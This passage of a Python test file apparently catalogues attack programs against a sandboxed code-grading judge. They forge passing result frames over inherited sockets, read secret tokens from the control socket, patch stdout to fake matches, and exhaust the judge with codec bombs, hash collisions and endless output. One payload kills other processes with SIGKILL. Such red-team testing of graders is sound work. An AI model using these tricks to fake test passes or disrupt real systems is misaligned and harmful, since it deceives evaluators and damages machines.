    for fd in range(0, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode):
                found.append(fd)
        except OSError:
            pass
    return found

def send(data):
    for fd in sockets():
        try:
            os.write(fd, data)
        except OSError:
            pass

def frame(kind, index, flags, payload=b""):
    return struct.pack("<IBBH", len(payload), ord(kind), flags, index) + payload

US = struct.pack("<I", 5)
TEXT = b"s" + struct.pack("<I", 2) + b"no"
"""

_BLOB = "struct.pack('<I', 2) + b'ok'"


def _frames(
    name: str, tries: str, body: str, forms: tuple[Form, ...] = EVERYDAY, seconds: float = 15.0
) -> Forgery:
    return Forgery(name, FORGING, tries, _FRAMES + body, forms, not_plain=_MACHINERY, seconds=seconds)


_FORGED_FRAMES = (
    _frames(
        "frames_say_passed",
        "write frames of every type, with status passed, for every test",
        """
def f(x):
    for kind in "SXTDVALORJIPZGCQE":
        for index in (0, 1, 2, 3, 0xFFFF):
            for body in (US + b"ok", US, b"", struct.pack("<d", 0.0) + US + b"ok", b"\\0" + struct.pack("<I", 0)):
                send(frame(kind, index, 0, body))
    return None
""",
    ),
    _frames(
        "frames_at_load",
        "write result frames while the module loads, before any test was asked for",
        """
for index in range(8):
    send(frame("X", index, 0, US) + frame("S", index, 0, US) + frame("T", index, 0, b"\\0") + frame("L", 0, 0))
def f(x):
    return None
""",
    ),
    _frames(
        "frames_then_exit",
        "write a passing status frame for every test and end",
        """
def f(x):
    for index in range(8):
        send(frame("S", index, 0, US + b"") + frame("X", index, 0, US + b""))
    os._exit(0)
""",
    ),
    _frames(
        "strict_flag_lie",
        "send a value of its own making with the strict flag, in front of the true answer",
        """
def f(x):
    for index in range(4):
        send(frame("V", index, 1, US + TEXT))
    return None
""",
    ),
    _frames(
        "verdict_shaped_frames",
        "send what the supervisor sends to the host: a verdict with every test passed",
        """
def f(x):
    body = struct.pack("<QII", 0, 0, 3) + struct.pack("<dd", 0, 0) + struct.pack("<QI", 0, 1) + struct.pack("<I", 0)
    body += struct.pack("<iI", 0, 0) + struct.pack("<II", 0, 0) + b"\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0" * 3
    for unit in range(64):
        send(frame("V", 0, 0, struct.pack("<Q", unit) + body[8:]) + frame("D", 0, 0, struct.pack("<QI", unit, 0)))
    return None
""",
    ),
    _frames(
        "index_out_of_range",
        "send results for tests that do not exist, up to 65535",
        """
def f(x):
    for index in (3, 4, 7, 8, 63, 64, 255, 256, 1023, 4095, 32767, 32768, 65534, 65535):
        for kind in "VXSTA":
            send(frame(kind, index, 0, US + TEXT))
    return None
""",
    ),
    _frames(
        "length_four_gigabytes",
        "announce a frame of 4 GiB",
        """
def f(x):
    send(struct.pack("<IBBH", 0xFFFFFFFF, ord("V"), 0, 0) + b"x" * 100)
    return None
""",
    ),
    _frames(
        "length_just_below_the_bound",
        "announce 64 MiB and never send it",
        """
import time
def f(x):
    send(struct.pack("<IBBH", 64 << 20, ord("V"), 0, 0) + b"x" * 100)
    time.sleep(60)
""",
        seconds=40.0,
    ),
    _frames(
        "sixty_megabytes_of_frame",
        "really send a huge frame",
        """
def f(x):
    data = frame("V", 0, 0, US + b"s" + struct.pack("<I", 60 << 20) + b"a" * (60 << 20))
    view = memoryview(data)
    for fd in sockets():
        if fd > 2:
            at = 0
            try:
                while at < len(view):
                    at += os.write(fd, view[at:at + (1 << 20)])
            except OSError:
                pass
    return None
""",
        seconds=40.0,
    ),
    _frames(
        "drip",
        "send one byte of a frame at a time, forever",
        """
import time
def f(x):
    data = frame("V", 0, 0, US + TEXT)
    while True:
        for byte in data:
            send(bytes([byte]))
            time.sleep(0.001)
""",
        seconds=40.0,
    ),
    _frames(
        "flood_of_tiny_frames",
        "send empty frames as fast as possible, forever",
        """
def f(x):
    data = frame("V", 0, 0, US) * 1000
    while True:
        send(data)
""",
        seconds=40.0,
    ),
    _frames(
        "noise",
        "send pseudo-random bytes",
        """
import random
def f(x):
    random.seed(x)
    for _ in range(50):
        send(bytes(random.randrange(256) for _ in range(random.randrange(1, 4000))))
    return None
""",
    ),
    _frames(
        "read_the_requests",
        "read the control socket before the judge's own loop does, and answer on its own",
        """
import fcntl
def f(x):
    seen = b""
    for fd in sockets():
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK)
            while True:
                data = os.read(fd, 65536)
                if not data:
                    break
                seen += data
        except OSError:
            pass
    at = seen.find(b"ACE-SECRET-")
    found = seen[at:at + 43].decode() if at >= 0 else "nothing"
    for index in range(4):
        send(frame("V", index, 1, US + b"s" + struct.pack("<I", len(found)) + found.encode()))
    return found
""",
    ),
    _frames(
        "pass_descriptors",
        "attach hundreds of descriptors to its messages",
        """
import array
def f(x):
    pipes = [os.pipe() for _ in range(60)]
    fds = [fd for pair in pipes for fd in pair]
    for fd in sockets():
        try:
            s = socket.socket(fileno=os.dup(fd))
            for _ in range(200):
                s.sendmsg([frame("V", 0, 0, US + TEXT)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))], socket.MSG_DONTWAIT)
        except OSError:
            pass
    return None
""",
    ),
    _frames(
        "frames_from_a_thread_after_the_answer",
        "a thread that goes on writing results after the function returned",
        """
import threading
def later():
    while True:
        for index in range(4):
            send(frame("V", index, 1, US + TEXT) + frame("S", index, 0, US) + frame("X", index, 0, US))
def f(x):
    if not threading.active_count() > 1:
        threading.Thread(target=later, daemon=True).start()
    return None
""",
        seconds=40.0,
    ),
    _frames(
        "frames_from_atexit_and_del",
        "write results when the interpreter ends",
        """
import atexit
class Late:
    def __del__(self):
        for index in range(4):
            send(frame("S", index, 0, US) + frame("X", index, 0, US) + frame("T", index, 0, b"\\0"))
late = Late()
atexit.register(late.__del__)
def f(x):
    return None
""",
    ),
)

# ---- codec: bytes that no encoder would write ----


def _codec(
    name: str,
    tries: str,
    value: str,
    forms: tuple[Form, ...] = (PLANNED, SCRIPT, FUNCTIONAL),
    seconds: float = 20.0,
) -> Forgery:
    """A program that answers with hand-made codec bytes, whatever frame the answer belongs in."""
    body = f"""
I = lambda n: struct.pack("<I", n)
VALUE = {value}
def f(x):
    for index in (0, 1, 2):
        for flags in (0, 1):
            send(frame("V", index, flags, US + VALUE))
            send(frame("A", index, flags, VALUE))
    return None
"""
    return _frames(name, tries, body, forms, seconds)


_CODEC = (
    _codec("codec_unknown_tags", "values with every tag that does not exist", "bytes(range(256))"),
    _codec("codec_empty", "no value at all", "b''"),
    _codec("codec_truncated", "a list that announces more items than there are", "b'[' + I(1000) + b'i'"),
    _codec("codec_huge_counts", "containers of 2**32-1 items in a few bytes", "b'[' + I(0xFFFFFFFF) + b'N'"),
    _codec("codec_huge_string", "a string of 4 GiB in a few bytes", "b's' + I(0xFFFFFFFF) + b'a'"),
    _codec("codec_deep_lists", "a list 500,000 levels deep", "(b'[' + I(1)) * 500000 + b'N'"),
    _codec("codec_deep_dicts", "dictionaries in keys in dictionaries", "(b'{' + I(1)) * 100000 + b'N'"),
    _codec("codec_bad_reference", "a reference to a container that does not exist", "b'@' + I(0xFFFFFFF0)"),
    _codec(
        "codec_reference_to_itself",
        "a list, a tuple, a set and a dict that contain themselves",
        "b'[' + I(4) + b'@' + I(0) + b'(' + I(1) + b'@' + I(1) + b'<' + I(1) + b'@' + I(2) + b'{' + I(1) + b'@' + I(3) + b'N'",
    ),
    _codec("codec_tuple_cycle", "a tuple that contains itself", "b'(' + I(1) + b'@' + I(0)"),
    _codec("codec_set_in_itself", "a frozenset that contains itself", "b'>' + I(1) + b'@' + I(0)"),
    _codec(
        "codec_billion_laughs",
        "back-references that double the size forty times",
        "b'[' + I(41) + b'[' + I(1) + b'N' + b''.join(b'(' + I(2) + b'@' + I(k) + b'@' + I(k) for k in range(1, 41))",
    ),
    _codec(
        "codec_doubling_hash",
        "nested tuples by back-reference, as a set's member: hashing takes 2**40 steps",
        "b'[' + I(41) + b'(' + I(1) + b'N' + b''.join(b'(' + I(2) + b'@' + I(k) + b'@' + I(k) for k in range(1, 40)) + b'<' + I(1) + b'@' + I(40)",
    ),
    _codec(
        "codec_unhashable_members", "a set of lists and a dict with list keys", "b'<' + I(1) + b'[' + I(0)"
    ),
    _codec("codec_bad_utf8", "text that is not UTF-8", "b's' + I(4) + b'\\xff\\xfe\\x80\\xed'"),
    _codec("codec_giant_int", "an int of 20 MB", "b'I' + I(20 << 20) + b'\\x7f' * (20 << 20)"),
    _codec("codec_range_step_zero", "a range with step 0", "b'r' + (b'i' + bytes(8)) * 3"),
    _codec("codec_range_of_text", "a range made of strings", "b'r' + (b's' + I(1) + b'a') * 3"),
    _codec(
        "codec_constructors",
        "every constructor kind there may be, with nonsense",
        "b'[' + I(256) + b''.join(b'M' + bytes([k]) + b's' + I(3) + b'abc' for k in range(256))",
    ),
    _codec(
        "codec_constructor_with_none",
        "constructors of None",
        "b'[' + I(64) + b''.join(b'M' + bytes([k]) + b'N' for k in range(64))",
    ),
    _codec(
        "codec_constructor_with_giant_number",
        "constructors of 10**1,000,000",
        "b'[' + I(16) + b''.join(b'M' + bytes([k]) + b'I' + I(415000) + b'\\x7f' * 415000 for k in range(16))",
    ),
    _codec(
        "codec_decimal_exponent",
        "decimals and fractions with giant exponents as text",
        "b'[' + I(32) + b''.join(b'M' + bytes([k]) + b's' + I(14) + b'1E+99999999999' for k in range(32))",
    ),
    _codec(
        "codec_decimal_snan",
        "signalling nan in every constructor",
        "b'[' + I(32) + b''.join(b'M' + bytes([k]) + b's' + I(4) + b'sNaN' for k in range(32))",
    ),
    _codec(
        "codec_numpy_object",
        "an array of dtype object, which would be unpickled",
        "b'n' + I(1) + b'O' + I(1) + I(4) + I(32) + b'\\x80\\x04\\x95' + bytes(29)",
    ),
    _codec(
        "codec_numpy_shape",
        "an array whose shape overflows",
        "b'n' + I(3) + b'<f8' + I(4) + I(0xFFFFFFFF) * 4 + I(8) + bytes(8)",
    ),
    _codec(
        "codec_numpy_dimensions",
        "an array of four billion dimensions",
        "b'n' + I(3) + b'<f8' + I(0xFFFFFFF0) + I(1) * 64 + I(8) + bytes(8)",
    ),
    _codec(
        "codec_numpy_dtype_text",
        "dtype texts that are programs, structures and commas",
        "b'[' + I(3) + b''.join(b'n' + I(len(d)) + d + I(0) + I(0) for d in (b'__import__(\"os\")', b'f8,i4', b'V1000000000'))",
    ),
    _codec(
        "codec_forged_tokens",
        "tokens that the player never issued, with types of the judge",
        "b'[' + I(3) + b''.join(b'O' + I(n) + I(3) + b'str' + I(5) + b'pass!' for n in (0, 1, 0xFFFFFFFF))",
    ),
    _codec(
        "codec_token_text_huge",
        "a token with a type name and a text of megabytes",
        "b'O' + I(1) + I(4 << 20) + b'A' * (4 << 20) + I(4 << 20) + b'B' * (4 << 20)",
    ),
    _codec("codec_trailing_bytes", "a right-looking value with more behind it", "TEXT + TEXT"),
    _codec(
        "codec_non_canonical",
        "an int in the long form, which the short one would hold",
        "b'I' + I(4) + b'\\x01\\x00\\x00\\x00'",
    ),
)

# ---- values that are a burden ----

_BURDENS = (
    Forgery(
        "deep_value",
        FORGING,
        "return a list a million levels deep",
        "def f(x):\n    v = []\n    for _ in range(1000000):\n        v = [v]\n    return v\n",
        (PLANNED, SCRIPT),
        not_plain="a burden, not a lie",
    ),
    Forgery(
        "self_referential_value",
        FORGING,
        "return structures that contain themselves",
        "def f(x):\n    a = []\n    a.append(a)\n    d = {}\n    d['d'] = d\n    t = ([],)\n    t[0].append(t)\n    return {1: a, 2: d, 3: t}[x]\n",
        EVERYDAY,
        not_plain="a burden, not a lie",
    ),
    Forgery(
        "huge_value",
        FORGING,
        "return 100 MB",
        "def f(x):\n    return {1: 'a' * (100 << 20), 2: [0] * 5000000, 3: bytes(100 << 20)}[x]\n",
        (PLANNED, SCRIPT),
        not_plain="a burden, not a lie",
        seconds=60.0,
    ),
    Forgery(
        "huge_int",
        FORGING,
        "return an int whose decimal text takes minutes",
        "def f(x):\n    return 1 << (8 * 4000000)\n",
        (PLANNED, NUMBERS, SCRIPT, UNITTEST),
        not_plain="a burden, not a lie",
        seconds=30.0,
    ),
    Forgery(
        "hash_collisions",
        FORGING,
        "return sets and dicts whose members all have the same hash",
        "M = (1 << 61) - 1\ndef f(x):\n    if x == 1:\n        return [k * M for k in range(1, 60000)]\n"
        "    class Lazy(dict):\n        pass\n    return {'a': [k * M for k in range(1, 60000)]}\n",
        (
            Form(
                "sets_of_results",
                "asserts",
                (
                    "assert set(f(1)) == {'@0@'}",
                    "assert dict.fromkeys(f(1)) == {'@0@': None}",
                    "assert f(2) == '@0@'",
                ),
                "def f(x):\n    return ['@0@'] if x == 1 else '@0@'\n",
                1,
            ),
        ),
        not_plain="a burden, not a lie",
        seconds=40.0,
    ),
    Forgery(
        "burden_in_every_test",
        FORGING,
        "make each of many tests cost the judge all it may spend on a program",
        "M = (1 << 61) - 1\ndef f(x):\n    return [k * M for k in range(1, 60000)]\n",
        (
            Form(
                "many_sets",
                "asserts",
                tuple(f"assert set(f({n})) == {{'@0@'}}" for n in range(16)),
                "def f(x):\n    return ['@0@']\n",
                1,
            ),
        ),
        not_plain="a burden, not a lie",
        seconds=40.0,
    ),
    Forgery(
        "hash_collisions_by_hand",
        FORGING,
        "codec bytes of a set of a million ints with one hash",
        _FRAMES + "M = (1 << 61) - 1\ndef f(x):\n    body = b'<' + struct.pack('<I', 300000)\n"
        "    body += b''.join(b'I' + struct.pack('<I', 10) + (k * M).to_bytes(10, 'little') for k in range(1, 300001))\n"
        "    for fd in sockets():\n        if fd > 2:\n            view = memoryview(frame('V', 0, 0, US + body) + frame('A', 0, 0, body))\n"
        "            try:\n                while view:\n                    view = view[os.write(fd, view):]\n            except OSError:\n                pass\n"
        "    return None\n",
        (PLANNED, SCRIPT),
        not_plain=_MACHINERY,
        seconds=40.0,
    ),
    Forgery(
        "range_bomb",
        FORGING,
        "return range(10**12), which the test turns into a list, a set or a sum",
        "def f(x):\n    return range(10 ** 12)\n",
        (
            THROUGH,
            Form(
                "expanded_in_script",
                "check_script",
                ("def check(candidate):\n    assert list(candidate(1)) == ['@0@']\n",),
                "def f(x):\n    return ['@0@']\n",
                1,
            ),
        ),
        not_plain="a burden, not a lie",
        seconds=60.0,
    ),
    Forgery(
        "endless_generator",
        FORGING,
        "return a generator without end",
        "import itertools\ndef f(x):\n    return itertools.count() if x % 2 else (0 for _ in iter(int, 1))\n",
        (
            Form(
                "walked",
                "asserts",
                (
                    "assert list(f(1)) == ['@0@']",
                    "assert set(f(2)) == {'@1@'}",
                    "assert sorted(f(3)) == ['@2@']",
                ),
                "def f(x):\n    return [{1: '@0@', 2: '@1@', 3: '@2@'}[x]]\n",
            ),
            Form(
                "walked_in_script",
                "check_script",
                (
                    "def check(candidate):\n    n = 0\n    for item in candidate(1):\n        n += 1\n    assert candidate(2) == '@0@'\n",
                ),
                "def f(x):\n    return [] if x == 1 else '@0@'\n",
                1,
            ),
        ),
        not_plain="a burden, not a lie",
        seconds=60.0,
    ),
    Forgery(
        "signalling_nan",
        FORGING,
        "return Decimal('sNaN'), which raises when it is compared",
        "from decimal import Decimal\ndef f(x):\n    return [Decimal('sNaN')] if x == 2 else Decimal('sNaN')\n",
        ALL_FORMS[:5],
        not_plain="a burden, not a lie",
    ),
    Forgery(
        "decimal_giant_exponent",
        FORGING,
        "return decimals and fractions whose conversion to int takes all memory",
        "from decimal import Decimal\ndef f(x):\n    return Decimal('1E+999999999')\n",
        (PLANNED, NUMBERS, SCRIPT, UNITTEST),
        not_plain="a burden, not a lie",
        seconds=40.0,
    ),
    Forgery(
        "multiplied_by_the_test",
        FORGING,
        "return values whose product, power or repetition in the test is enormous",
        "def f(x):\n    return 10 ** 9\n",
        (
            Form(
                "multiplied",
                "asserts",
                (
                    "assert '@0@' * f(1) == '@0@'",
                    "assert [0] * f(2) == [0]",
                    "assert 2 ** f(3) == 2",
                    "assert 1 << f(4) == 2",
                    "assert f(5) ** f(6) == 1",
                    "assert bytes(f(7)) == bytes(1)",
                    "assert ' '.join(['x'] * f(8)) == 'x'",
                ),
                "def f(x):\n    return 1\n",
                1,
            ),
        ),
        not_plain="a burden, not a lie",
        seconds=60.0,
    ),
    Forgery(
        "regular_expression_in_the_judge",
        FORGING,
        "return a text that makes the test's regular expression explode",
        "def f(x):\n    return 'a' * 60 + '!'\n",
        (
            Form(
                "regex",
                "check_script",
                ("import re\ndef check(candidate):\n    assert re.fullmatch('(a+)+@0@', candidate(1))\n",),
                "def f(x):\n    return 'a@0@'\n",
                1,
            ),
        ),
        not_plain="a burden, not a lie",
        seconds=40.0,
    ),
    Forgery(
        "worker_killer",
        FORGING,
        "harm every process it can signal, in the hope that what cannot be judged is not counted",
        "import os, signal\ndef f(x):\n    for pid in list(range(1, 64)):\n        if pid != os.getpid() and os.getpid() < 64:\n            try:\n"
        "                os.kill(pid, signal.SIGKILL)\n            except OSError:\n                pass\n    os.kill(os.getpid(), signal.SIGSEGV)\n",
        EVERYDAY,
        not_plain="aimed at the retry after a worker's death; run without a jail it would kill other people's processes",
    ),
    Forgery(
        "memory_then_die",
        FORGING,
        "take memory until something in the worker dies",
        "def f(x):\n    keep = []\n    while True:\n        keep.append(bytearray(16 << 20))\n",
        EVERYDAY,
        not_plain="aimed at the retry after a worker's death",
        seconds=60.0,
    ),
    Forgery(
        "every_kind_of_odd_name",
        FORGING,
        "NUL bytes, surrogates, right-to-left marks and escape sequences in names, messages and output",
        "import sys\nclass Odd(Exception):\n    pass\nOdd.__name__ = Odd.__qualname__ = 'a\\x00b\\ud800\\u202e\\x1b[2J'\n"
        "print('\\x00\\x1b[2J\\u202e')\nsys.stdout.buffer.write(bytes(range(256)))\n"
        "def f(x):\n    raise Odd('\\x00\\ud800\\u202e\\x1b]0;x\\x07' * 100)\n",
        EVERYDAY,
        not_plain="a burden, not a lie",
    ),
    Forgery(
        "exception_with_hostile_text",
        FORGING,
        "an exception whose str, repr, args and traceback raise, exit or never end",
        "import os\nclass E(Exception):\n    def __str__(self):\n        os._exit(0)\n    __repr__ = __str__\n    @property\n    def args(self):\n        raise SystemExit(0)\n"
        "    @property\n    def __traceback__(self):\n        raise SystemExit(0)\ndef f(x):\n    raise E\n",
        EVERYDAY,
        not_plain="a careful plain judge sees the exception before it asks for its text",
    ),
    Forgery(
        "exception_class_of_a_metaclass",
        FORGING,
        "an exception type whose metaclass lies about its ancestors and instances",
        "class M(type):\n    def __instancecheck__(c, o):\n        return True\n    def __subclasscheck__(c, o):\n        return True\n"
        "    @property\n    def __mro__(c):\n        return (SystemExit, BaseException, object)\n    @property\n    def __name__(c):\n        return 'SkipTest'\n"
        "class E(Exception, metaclass=M):\n    pass\ndef f(x):\n    raise E(0)\n",
        EVERYDAY,
        not_plain="aimed at the rule that re-creates exceptions from the built-in part of their ancestors",
    ),
)

_STDIO = (
    Forgery(
        "stdio_patched_output",
        FORGING,
        "replace sys.stdout by something that equals what is expected",
        "import sys, builtins\nclass Yes(str):\n    __eq__ = lambda a, b: True\n    __ne__ = lambda a, b: False\n    __hash__ = str.__hash__\n"
        "    def strip(self, *a):\n        return self\n    split = splitlines = rstrip = strip\n"
        "if hasattr(sys.stdout, 'getvalue'):\n    type(sys.stdout).getvalue\n    sys._out = sys.stdout\n"
        "    class Out(type(sys.stdout)):\n        def getvalue(self):\n            return Yes()\n    sys.stdout.__class__ = Out\n",
        (STDIO,),
        not_plain="io.StringIO refuses a new __class__; kept because a judge with a Python-level buffer would fall for it",
    ),
    Forgery(
        "stdio_looks_for_the_expected_output",
        FORGING,
        "search all objects for the expected output, then print it",
        "import gc, re, sys\nask = int(input())\nframe = sys._getframe()\ntexts, single = [], []\nwhile frame:\n"
        "    for v in list(frame.f_locals.values()):\n        if isinstance(v, str) and re.fullmatch('ACE-SECRET-[0-9a-f]{32}', v.strip()):\n"
        "            single.append(v.strip())\n        elif isinstance(v, (list, tuple, dict)):\n            texts.append(repr(v)[:100000])\n    frame = frame.f_back\n"
        "for o in [] if single else gc.get_objects():\n    if isinstance(o, (list, tuple)):\n        try:\n            texts.append(repr(o)[:20000])\n        except Exception:\n            pass\n"
        "order = list(dict.fromkeys(re.findall('ACE-SECRET-[0-9a-f]{32}', ' '.join(texts))))\n"
        "print(single[0] if single else order[ask - 1] if order else 'nothing')\n",
        (STDIO,),
        ("stdio",),
    ),
    Forgery(
        "stdio_prints_everything",
        FORGING,
        "print many lines in the hope that one of them counts",
        "print('\\n'.join(str(i) for i in range(1000)))\nprint('PASSED')\n",
        (STDIO,),
        not_plain="a guess; there is nothing to be fooled",
    ),
    Forgery(
        "stdio_endless_output",
        FORGING,
        "print without end",
        "while True:\n    print('x' * 1000)\n",
        (STDIO,),
        not_plain="a burden, not a lie",
        seconds=40.0,
    ),
    Forgery(
        "stdio_frames_on_output",
        FORGING,
        "print frames and verdicts to standard output and every other descriptor",
        _FRAMES
        + "data = b''.join(frame(k, i, 0, US + b'ok') for k in 'SXTDVO' for i in range(4))\nsend(data)\nos.write(1, data)\n",
        (STDIO,),
        not_plain=_MACHINERY,
    ),
    Forgery(
        "stdio_empty_output",
        FORGING,
        "print nothing and hope that an empty comparison holds",
        "input()\n",
        (STDIO,),
        not_plain="nothing to be fooled",
    ),
)

ATTACKS = (*_LIARS, *_PATCHES, *_REPORTS, *_ORACLES, *_FORGED_FRAMES, *_CODEC, *_BURDENS, *_STDIO)
